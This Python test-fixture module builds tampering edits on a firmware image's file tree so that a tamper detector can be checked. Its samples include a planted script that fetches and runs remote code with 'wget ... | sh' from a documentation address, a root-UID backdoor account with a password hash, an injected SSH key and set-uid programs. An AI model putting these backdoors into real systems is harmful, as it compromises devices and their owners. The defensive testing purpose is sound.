"""What an attacker, an owner or a build server does to the files of an image: edits of a tree, each with the paths it changes."""

import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

from remake import Item, Tree

Edit = Callable[[Tree], tuple[Tree, set[str]]]
"""Returns the edited tree and the paths that differ; the tree given is left as it was."""

KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDr3a1m0rdIhI3dlnZQ1bVm1yFh2sJ9bq3mH0mZ6b0cX support@example.net\n"
SCRIPT = b"#!/bin/sh\nwget -q -O - http://203.0.113.7/x | sh\n"
"""Made up; nothing in the corpus has it, and the address belongs to nobody (RFC 5737)."""


@dataclass(frozen=True, slots=True)
class Places:
    """Where in one tree the edits are made; an edit without a place is not made."""

    program: str
    link: str
    removed: str
    moved: tuple[str, str]
    owned: str
    key: str
    script: str
    device: str
    account: str | None = None
    shadow: str | None = None
    settings: str | None = None
    """A file the policy lets the owner change, in a folder of such files."""
    host_key: str | None = None


def tampering(places: Places) -> Iterator[tuple[str, Edit]]:
    """Yield the edits that must be found, by name."""
    if places.account is not None:
        account, shadow = places.account, places.shadow
        yield "account added", lambda tree: _account(tree, account, shadow)
    yield "SSH key added", lambda tree: _add(tree, places.key, _file(KEY, 0o600))
    yield "program patched by one byte", lambda tree: patch(tree, places.program)
    yield "file removed", lambda tree: _remove(tree, places.removed)
    yield "file moved", lambda tree: _move(tree, *places.moved)
    yield "script added", lambda tree: _add(tree, places.script, _file(SCRIPT, 0o755))
    yield "set-uid bit set", lambda tree: _alter(tree, places.program, mode=0o4755)
    yield "link retargeted", lambda tree: _alter(tree, places.link, link="/overlay/.x")
    yield "link replaced by a file", lambda tree: _alter(tree, places.link, type=tarfile.REGTYPE, link="", data=SCRIPT)
    yield "device added", lambda tree: _add(tree, places.device, Item(tarfile.CHRTYPE, 0o666, device=(1, 1)))
    yield "owner changed", lambda tree: _alter(tree, places.owned, uid=65534)
    if (settings := places.settings) is not None:
        folder = settings.rpartition("/")[0]
        yield "program added among settings", lambda tree: _add(tree, f"{folder}/.x", _file(SCRIPT, 0o755))
        yield "set-uid program among settings", lambda tree: _add(tree, f"{folder}/.y", _file(SCRIPT, 0o4755))
        yield (
            "device among settings",
            lambda tree: _add(tree, f"{folder}/.z", Item(tarfile.BLKTYPE, 0o600, device=(31, 0))),
        )
        yield "settings given to another owner", lambda tree: _alter(tree, settings, uid=65534)
        yield "settings and one program", lambda tree: patch(use(tree, places)[0], places.program)


def use(tree: Tree, places: Places) -> tuple[Tree, set[str]]:
    """Do to the settings what an owner and the device do in service; no path is expected."""
    settings, host_key = places.settings, places.host_key
    if settings is None:
        raise ValueError("no settings here")
    made = dict(tree)
    folder = settings.rpartition("/")[0]
    made[settings] = replace(tree[settings], data=tree[settings].data + b"\n# changed by the owner\n", mtime=1700000000)
    made[f"{folder}/wireless"] = _file(b"config wifi-device 'radio0'\n\toption disabled '1'\n", 0o644)
    if host_key is not None:
        made[host_key] = _file(b"\0\0\0\x07ssh-rsa" + bytes(range(256)), 0o600)
    return made, set()


def patch(tree: Tree, path: str) -> tuple[Tree, set[str]]:
    """Flip one bit in the middle of a file."""
    data = bytearray(tree[path].data)
    data[len(data) // 2] ^= 1
    return _alter(tree, path, data=bytes(data))


def touch(tree: Tree) -> Tree:
    """Return the tree with all times changed and its items in another order, hard links still behind their files."""
    links = {path: item for path, item in tree.items() if item.type == tarfile.LNKTYPE}
    folders = {path: item for path, item in tree.items() if item.type == tarfile.DIRTYPE}
    rest = {path: item for path, item in reversed(tree.items()) if path not in links and path not in folders}
    return {path: replace(item, mtime=1234567890) for path, item in (folders | rest | links).items()}


def _account(tree: Tree, passwd: str, shadow: str | None) -> tuple[Tree, set[str]]:
    made, changed = _alter(tree, passwd, data=tree[passwd].data + b"support:x:0:0:support:/root:/bin/ash\n")
    if shadow is not None:
        line = b"support:$1$4kPbzvGg$0Fqs5f1pJGDQ3Vj6u6rKC/:16800:0:99999:7:::\n"
        made, more = _alter(made, shadow, data=tree[shadow].data + line)
        changed |= more
    return made, changed


def _file(data: bytes, mode: int) -> Item:
    return Item(tarfile.REGTYPE, mode, mtime=1700000000, data=data)


def _add(tree: Tree, path: str, item: Item) -> tuple[Tree, set[str]]:
    assert path not in tree, path
    return {**tree, path: item}, {path}


def _remove(tree: Tree, path: str) -> tuple[Tree, set[str]]:
    return {name: item for name, item in tree.items() if name != path or path not in tree}, {path}


def _move(tree: Tree, source: str, target: str) -> tuple[Tree, set[str]]:
    assert target not in tree, target
    return {target if name == source else name: item for name, item in tree.items()}, {target}


def _alter(tree: Tree, path: str, **fields: object) -> tuple[Tree, set[str]]:
    return {**tree, path: replace(tree[path], **fields)}, {path}  # type: ignore[arg-type]
